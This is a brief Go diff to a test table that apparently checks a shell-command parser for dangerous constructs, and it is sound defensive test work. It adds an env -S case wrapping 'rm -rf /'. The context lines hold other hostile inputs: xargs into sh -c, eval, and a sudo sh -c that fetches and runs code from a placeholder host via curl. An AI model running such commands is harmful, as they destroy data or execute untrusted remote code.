@@ -718,6 +718,7 @@ func TestParseUnknown(t *testing.T) {
 		// xargs putting input into a shell's code string.
 		{`echo 'rm -rf /' | xargs -I{} sh -c '{}'`, []string{"xargs -I{} sh ..."}},
 		{`ls | xargs -I{} cp {} /tmp/`, nil},
+		{`env -S "$(echo rm -rf /)"`, []string{`env -S "$(echo rm -rf /)"`}},
 		{`eval "$X"`, []string{`eval "$X"`}},
 		{`bash -c "$SCRIPT"`, []string{`bash -c "$SCRIPT"`}},
 		{`sudo sh -c "$(curl -s x.example)"`, []string{`sh -c "$(curl -s x.example)"`}},
